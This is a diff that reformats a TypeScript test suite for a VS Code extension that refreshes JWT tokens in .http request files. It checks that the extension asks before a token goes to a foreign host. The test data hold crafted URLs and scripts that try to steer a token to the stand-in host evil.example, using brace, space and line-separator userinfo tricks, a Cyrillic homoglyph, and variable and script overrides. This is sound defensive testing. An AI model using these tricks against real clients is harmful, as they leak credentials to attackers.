@@ -32,18 +32,22 @@ describe("A fresh token", function () {
   });
   afterEach(async () => {
     sender.dispose();
-    for (let left = vscode.window.tabGroups.all.flatMap(({ tabs }) => tabs).length; left > 0; left--) await vscode.commands.executeCommand("workbench.action.revertAndCloseActiveEditor");
+    for (let left = vscode.window.tabGroups.all.flatMap(({ tabs }) => tabs).length; left > 0; left--)
+      await vscode.commands.executeCommand("workbench.action.revertAndCloseActiveEditor");
     await rm(folder, { recursive: true, force: true });
   });
   after(forgetAll);
 
-  const expired = (): Promise<string> => signedToken({ appId: app.clientId, sub: "jane", iat: now() - 600, exp: now() - 300 }, secret);
+  const expired = (): Promise<string> =>
+    signedToken({ appId: app.clientId, sub: "jane", iat: now() - 600, exp: now() - 300 }, secret);
 
   async function opened(text: string): Promise<vscode.TextDocument> {
     // VS Code keeps a document for a while, whatever becomes of its file.
     const file = join(folder, `requests-${++count}.http`);
     await writeFile(file, text);
-    const document = await vscode.workspace.openTextDocument(vscode.Uri.file(file).with({ scheme: vscode.workspace.workspaceFolders?.[0]?.uri.scheme ?? "file" }));
+    const document = await vscode.workspace.openTextDocument(
+      vscode.Uri.file(file).with({ scheme: vscode.workspace.workspaceFolders?.[0]?.uri.scheme ?? "file" }),
+    );
     await vscode.window.showTextDocument(document);
     await until(() => vscode.window.activeTextEditor?.document === document, "the editor is active");
     return document;
@@ -51,39 +55,107 @@ describe("A fresh token", function () {
 
   /** Clicks the lens of that title, the last one where there are several. */
   async function click(document: vscode.TextDocument, title: string, answer?: string) {
-    const lenses = (await vscode.commands.executeCommand<vscode.CodeLens[]>("vscode.executeCodeLensProvider", document.uri, 100)).filter(({ command }) => command?.title === title);
+    const lenses = (
+      await vscode.commands.executeCommand<vscode.CodeLens[]>("vscode.executeCodeLensProvider", document.uri, 100)
+    ).filter(({ command }) => command?.title === title);
     const { command } = lenses.at(-1) ?? assert.fail(`no lens “${title}”`);
-    return asking(() => vscode.commands.executeCommand(command?.command ?? "", ...((command?.arguments as unknown[]) ?? [])), answer);
+    return asking(
+      () => vscode.commands.executeCommand(command?.command ?? "", ...((command?.arguments as unknown[]) ?? [])),
+      answer,
+    );
   }
 
   const isFresh = async (document: vscode.TextDocument, line: number): Promise<boolean> => {
     const [token = ""] = /eyJ[\w.-]+/.exec(document.lineAt(line).text) ?? [];
-    return (await isSignedWith(token, secret)) && Number((JSON.parse(atob(token.split(".")[1]?.replaceAll("-", "+").replaceAll("_", "/") ?? "")) as { exp: number }).exp) > now();
+    return (
+      (await isSignedWith(token, secret)) &&
+      Number(
+        (JSON.parse(atob(token.split(".")[1]?.replaceAll("-", "+").replaceAll("_", "/") ?? "")) as { exp: number }).exp,
+      ) > now()
+    );
   };
 
   it("goes to the app's own host without a question, and by the request that was decided on, wherever the cursor is", async () => {
-    const document = await opened(`### Elsewhere\nGET https://evil.example/x\n\n### Own\nGET ${OWN}/api/public/bots\nauth: ${await expired()}\n`.replace("https://evil.example/x", `${OWN}/x`));
+    const document = await opened(
+      `### Elsewhere\nGET https://evil.example/x\n\n### Own\nGET ${OWN}/api/public/bots\nauth: ${await expired()}\n`.replace(
+        "https://evil.example/x",
+        `${OWN}/x`,
+      ),
+    );
     vscode.window.visibleTextEditors.forEach((editor) => (editor.selection = new vscode.Selection(1, 0, 1, 0)));
     assert.deepEqual((await click(document, "Refresh and send")).asked, []);
-    assert.deepEqual(sender.called.map(({ url, line, args }) => [url?.href, line, args[0] === document]), [[`${OWN}/api/public/bots`, 4, true]]);
+    assert.deepEqual(
+      sender.called.map(({ url, line, args }) => [url?.href, line, args[0] === document]),
+      [[`${OWN}/api/public/bots`, 4, true]],
+    );
     assert.ok(await isFresh(document, 5));
   });
 
   /** Texts with `TOKEN` in place of a token, the host that a client would call, and the host in the question. */
   const foreign: readonly (readonly [why: string, text: string, called: string | undefined, named: string])[] = [
     ["a brace", "GET https://platform.kore.ai{@evil.example/x\nauth: TOKEN\n", "evil.example", "“evil.example”"],
-    ["a closing brace", "GET https://platform.kore.ai}@evil.example/x\nauth: TOKEN\n", "evil.example", "“evil.example”"],
+    [
+      "a closing brace",
+      "GET https://platform.kore.ai}@evil.example/x\nauth: TOKEN\n",
+      "evil.example",
+      "“evil.example”",
+    ],
     ["a space", "GET https://platform.kore.ai @evil.example/x\nauth: TOKEN\n", "evil.example", "“evil.example”"],
-    ["a no-break space", "GET https://platform.kore.ai\u00a0@evil.example/x\nauth: TOKEN\n", "evil.example", "“evil.example”"],
-    ["a line separator", "GET https://platform.kore.ai\u2028@evil.example/x\nauth: TOKEN\n", "evil.example", "“evil.example”"],
-    ["a variable with one", "@host = https://platform.kore.ai{@evil.example\n\n###\nGET {{host}}/x\nauth: TOKEN\n", "evil.example", "“evil.example”"],
-    ["three slashes", "GET https:///evil.example\nHost: platform.kore.ai\nauth: TOKEN\n", "evil.example", "“evil.example”"],
+    [
+      "a no-break space",
+      "GET https://platform.kore.ai\u00a0@evil.example/x\nauth: TOKEN\n",
+      "evil.example",
+      "“evil.example”",
+    ],
+    [
+      "a line separator",
+      "GET https://platform.kore.ai\u2028@evil.example/x\nauth: TOKEN\n",
+      "evil.example",
+      "“evil.example”",
+    ],
+    [
+      "a variable with one",
+      "@host = https://platform.kore.ai{@evil.example\n\n###\nGET {{host}}/x\nauth: TOKEN\n",
+      "evil.example",
+      "“evil.example”",
+    ],
+    [
+      "three slashes",
+      "GET https:///evil.example\nHost: platform.kore.ai\nauth: TOKEN\n",
+      "evil.example",
+      "“evil.example”",
+    ],
     ["no user", "GET https://{@evil.example\nHost: platform.kore.ai\nauth: TOKEN\n", "evil.example", "“evil.example”"],
-    ["another letter", "GET https://plаtform.kore.ai/x\nauth: TOKEN\n", "xn--pltform-3fg.kore.ai", "“xn--pltform-3fg.kore.ai”"],
-    ["a definition in another body", "@host = https://platform.kore.ai\n\n###\nGET {{host}}/x\nauth: TOKEN\n\n###\nPOST https://platform.kore.ai/y\n\n@host = https://evil.example\n", "evil.example", "“evil.example”"],
-    ["a script", 'GET https://platform.kore.ai/x\nauth: TOKEN\n\n###\n{{\nexports.host = "https://evil.example";\n}}\n', "platform.kore.ai", "“platform.kore.ai”"],
-    ["a script for each request", 'GET https://platform.kore.ai/x\nauth: TOKEN\n\n###\n{{@request\nrequest.url = "https://evil.example";\n}}\n', "platform.kore.ai", "“platform.kore.ai”"],
-    ["another host of the platform", "GET https://de-platform.kore.ai/x\nauth: TOKEN\n", "de-platform.kore.ai", "“de-platform.kore.ai”"],
+    [
+      "another letter",
+      "GET https://plаtform.kore.ai/x\nauth: TOKEN\n",
+      "xn--pltform-3fg.kore.ai",
+      "“xn--pltform-3fg.kore.ai”",
+    ],
+    [
+      "a definition in another body",
+      "@host = https://platform.kore.ai\n\n###\nGET {{host}}/x\nauth: TOKEN\n\n###\nPOST https://platform.kore.ai/y\n\n@host = https://evil.example\n",
+      "evil.example",
+      "“evil.example”",
+    ],
+    [
+      "a script",
+      'GET https://platform.kore.ai/x\nauth: TOKEN\n\n###\n{{\nexports.host = "https://evil.example";\n}}\n',
+      "platform.kore.ai",
+      "“platform.kore.ai”",
+    ],
+    [
+      "a script for each request",
+      'GET https://platform.kore.ai/x\nauth: TOKEN\n\n###\n{{@request\nrequest.url = "https://evil.example";\n}}\n',
+      "platform.kore.ai",
+      "“platform.kore.ai”",
+    ],
+    [
+      "another host of the platform",
+      "GET https://de-platform.kore.ai/x\nauth: TOKEN\n",
+      "de-platform.kore.ai",
+      "“de-platform.kore.ai”",
+    ],
     ["no encryption", "GET http://platform.kore.ai/x\nauth: TOKEN\n", "platform.kore.ai", "“platform.kore.ai”"],
     ["nothing that tells", "GET https://{{unknown}}/x\nauth: TOKEN\n", undefined, "an unknown host"],
   ];
@@ -94,7 +166,10 @@ describe("A fresh token", function () {
       const document = await opened(written);
       // VS Code takes unusual line ends out of what it opens, in its own time.
       const content = written.replace("\u2028", "");
-      for (const [title, decline, verb] of [["Refresh and send", "Don't Send", "Send"], ["Refresh", "Don't Write", "Write"]] as const) {
+      for (const [title, decline, verb] of [
+        ["Refresh and send", "Don't Send", "Send"],
+        ["Refresh", "Don't Write", "Write"],
+      ] as const) {
         const { asked, modals } = await click(document, title);
         assert.deepEqual(asked, ["modal"]);
         assertDeclinesFirst({ modals });
@@ -115,7 +190,8 @@ describe("A fresh token", function () {
 
   it("is remembered for this content, these hosts and what lies beside the file, and for nothing else", async () => {
     const document = await opened(`GET https://other.example/x\nauth: ${await expired()}\n\n{}\n`);
-    const asked = async (answer?: string): Promise<number> => (await click(document, "Refresh and send", answer)).asked.length;
+    const asked = async (answer?: string): Promise<number> =>
+      (await click(document, "Refresh and send", answer)).asked.length;
     assert.equal(await asked("Send"), 1);
     assert.equal(await asked(), 0);
     assert.equal(sender.called.length, 2);
@@ -160,7 +236,10 @@ describe("A fresh token", function () {
         const document = await opened(`GET ${OWN}/x\nauth: ${await expired()}\n`);
         const { asked, modals } = await click(document, "Refresh");
         assert.deepEqual(asked, ["modal"]);
-        assert.ok(modals[0]?.detail.includes(`“${name.startsWith("env/") ? "env" : name.replace("../", "")}”`), modals[0]?.detail);
+        assert.ok(
+          modals[0]?.detail.includes(`“${name.startsWith("env/") ? "env" : name.replace("../", "")}”`),
+          modals[0]?.detail,
+        );
       } finally {
         await rm(other, { force: true });
       }
@@ -174,36 +253,55 @@ describe("A fresh token", function () {
     ["rest-client", "certificates", { "platform.kore.ai": { pfx: "x" } }],
   ] as const) {
     it(`is asked about where the workspace sets “${section}.${key}”, by its name`, async () => {
-      const settings = vscode.Uri.joinPath(vscode.workspace.workspaceFolders?.[0]?.uri ?? assert.fail("no workspace"), ".vscode/settings.json");
+      const settings = vscode.Uri.joinPath(
+        vscode.workspace.workspaceFolders?.[0]?.uri ?? assert.fail("no workspace"),
+        ".vscode/settings.json",
+      );
       const document = await opened(`GET ${OWN}/x\nauth: ${await expired()}\n`);
-      await vscode.workspace.fs.writeFile(settings, new TextEncoder().encode(JSON.stringify({ [`${section}.${key}`]: value })));
+      await vscode.workspace.fs.writeFile(
+        settings,
+        new TextEncoder().encode(JSON.stringify({ [`${section}.${key}`]: value })),
+      );
       try {
-        await until(() => vscode.workspace.getConfiguration(section).inspect(key)?.workspaceValue !== undefined, "the setting counts");
+        await until(
+          () => vscode.workspace.getConfiguration(section).inspect(key)?.workspaceValue !== undefined,
+          "the setting counts",
+        );
         const { asked, modals } = await click(document, "Refresh");
         assert.deepEqual(asked, ["modal"]);
         assert.ok(modals[0]?.detail.includes(`“${section}.${key}”`), modals[0]?.detail);
       } finally {
         await vscode.workspace.fs.delete(settings);
-        await until(() => vscode.workspace.getConfiguration(section).inspect(key)?.workspaceValue === undefined, "the setting is gone");
+        await until(
+          () => vscode.workspace.getConfiguration(section).inspect(key)?.workspaceValue === undefined,
+          "the setting is gone",
+        );
       }
     });
   }
 
   it("is asked about once where it stands in a variable and is sent, with all hosts that may get it", async () => {
-    const document = await opened(`@token = ${await expired()}\n\n###\nGET https://evil.example/x\n\n###\nGET ${OWN}/x\nauth: {{token}}\n`);
+    const document = await opened(
+      `@token = ${await expired()}\n\n###\nGET https://evil.example/x\n\n###\nGET ${OWN}/x\nauth: {{token}}\n`,
+    );
     const { asked, modals } = await click(document, "Refresh and send");
     assert.deepEqual(asked, ["modal"]);
     assert.ok(modals[0]?.message.includes("“evil.example”"), modals[0]?.message);
   });
 
   it("is asked about for all requests where one takes from what another sent", async () => {
-    const document = await opened(`###\n# @name a\nGET ${OWN}/x\nauth: ${await expired()}\n\n###\nGET https://evil.example/x\nauth: {{a.request.headers.auth}}\n`);
+    const document = await opened(
+      `###\n# @name a\nGET ${OWN}/x\nauth: ${await expired()}\n\n###\nGET https://evil.example/x\nauth: {{a.request.headers.auth}}\n`,
+    );
     const { modals } = await click(document, "Refresh");
     assert.ok(modals[0]?.message.includes("“evil.example”"), modals[0]?.message);
   });
 
   it("in Markdown is asked about, since clients send what stands there", async () => {
-    const document = await vscode.workspace.openTextDocument({ language: "markdown", content: `~~~http\nGET https://evil.example/x\nauth: ${await expired()}\n~~~\n` });
+    const document = await vscode.workspace.openTextDocument({
+      language: "markdown",
+      content: `~~~http\nGET https://evil.example/x\nauth: ${await expired()}\n~~~\n`,
+    });
     const editor = await vscode.window.showTextDocument(document);
     editor.selection = new vscode.Selection(2, 10, 2, 10);
     const { asked, modals } = await asking(() => vscode.commands.executeCommand("jwtApps.refreshToken"));
@@ -213,7 +311,16 @@ describe("A fresh token", function () {
 
   it("in a new request file is asked about where something lies beside it", async () => {
     const root = vscode.workspace.workspaceFolders?.[0]?.uri.fsPath ?? assert.fail("no workspace");
-    const make = (answer?: string) => asking(() => vscode.commands.executeCommand<string | undefined>("jwtApps.newRequestFile", { app: app.id, endpoint: "get-bots", use: "line" }), answer);
+    const make = (answer?: string) =>
+      asking(
+        () =>
+          vscode.commands.executeCommand<string | undefined>("jwtApps.newRequestFile", {
+            app: app.id,
+            endpoint: "get-bots",
+            use: "line",
+          }),
+        answer,
+      );
     await asking(() => vscode.commands.executeCommand("jwtApps.mintToken", { app: app.id }), "Allow for This Session");
     const plain = await make();
     assert.deepEqual([plain.asked, typeof plain.result], [[], "string"]);
@@ -227,25 +334,40 @@ describe("A fresh token", function () {
   });
 
   it("is not asked about where other files lie there", async () => {
-    for (const [name, content] of [["package.json", '{"name": "x"}'], ["environment.md", ""], ["env.ts", ""], ["other.http", ""]] as const) await writeFile(join(folder, name), content);
+    for (const [name, content] of [
+      ["package.json", '{"name": "x"}'],
+      ["environment.md", ""],
+      ["env.ts", ""],
+      ["other.http", ""],
+    ] as const)
+      await writeFile(join(folder, name), content);
     const document = await opened(`GET ${OWN}/x\nauth: ${await expired()}\n`);
     assert.deepEqual((await click(document, "Refresh")).asked, []);
   });
 
   it("in a variable is asked about for every request of the file that may take it", async () => {
-    const document = await opened(`@token = ${await expired()}\n\n###\nGET ${OWN}/x\nauth: {{token}}\n\n###\nGET https://evil.example/x\nauth: {{token}}\n`);
+    const document = await opened(
+      `@token = ${await expired()}\n\n###\nGET ${OWN}/x\nauth: {{token}}\n\n###\nGET https://evil.example/x\nauth: {{token}}\n`,
+    );
     const { asked, modals } = await click(document, "Refresh");
     assert.deepEqual(asked, ["modal"]);
     assert.ok(modals[0]?.message.includes("“evil.example”"), modals[0]?.message);
   });
 
   it("in a request that is inserted is asked about where the file changes where it goes", async () => {
-    const insert = (answer?: string) => asking(() => vscode.commands.executeCommand("jwtApps.insertRequest", { app: app.id, endpoint: "get-bots", use: "line" }), answer);
+    const insert = (answer?: string) =>
+      asking(
+        () =>
+          vscode.commands.executeCommand("jwtApps.insertRequest", { app: app.id, endpoint: "get-bots", use: "line" }),
+        answer,
+      );
     await asking(() => vscode.commands.executeCommand("jwtApps.mintToken", { app: app.id }), "Allow for This Session");
     const plain = await opened(`@host = ${OWN}\n\n###\nGET {{host}}/x\n`);
     assert.deepEqual((await insert()).asked, []);
     assert.ok(plain.getText().includes("eyJ"));
-    const scripted = await opened(`@host = ${OWN}\n\n###\nGET {{host}}/x\n\n###\n{{+\nexports.host = "https://evil.example";\n}}\n`);
+    const scripted = await opened(
+      `@host = ${OWN}\n\n###\nGET {{host}}/x\n\n###\n{{+\nexports.host = "https://evil.example";\n}}\n`,
+    );
     const before = scripted.getText();
     assert.deepEqual((await insert()).asked, ["modal"]);
     assert.equal(scripted.getText(), before);
@@ -265,8 +387,13 @@ describe("A fresh token", function () {
       },
     });
     try {
-      const lens = (await vscode.commands.executeCommand<vscode.CodeLens[]>("vscode.executeCodeLensProvider", document.uri, 100)).find(({ command }) => command?.title === "Refresh and send");
-      await vscode.commands.executeCommand(lens?.command?.command ?? "", ...((lens?.command?.arguments as unknown[]) ?? []));
+      const lens = (
+        await vscode.commands.executeCommand<vscode.CodeLens[]>("vscode.executeCodeLensProvider", document.uri, 100)
+      ).find(({ command }) => command?.title === "Refresh and send");
+      await vscode.commands.executeCommand(
+        lens?.command?.command ?? "",
+        ...((lens?.command?.arguments as unknown[]) ?? []),
+      );
     } finally {
       Object.assign(vscode.window, { showWarningMessage });
     }
@@ -279,7 +406,10 @@ describe("A fresh token", function () {
     sender = httpYac();
     const document = await opened(`### One\nGET ${OWN}/one\n\n### Two\nGET ${OWN}/two\nauth: ${await expired()}\n`);
     assert.deepEqual((await click(document, "Refresh and send")).asked, []);
-    assert.deepEqual(sender.called.map(({ url }) => url?.href), [`${OWN}/two`]);
+    assert.deepEqual(
+      sender.called.map(({ url }) => url?.href),
+      [`${OWN}/two`],
+    );
   });
 
   it("stays out of the environment for a file that goes elsewhere", async () => {
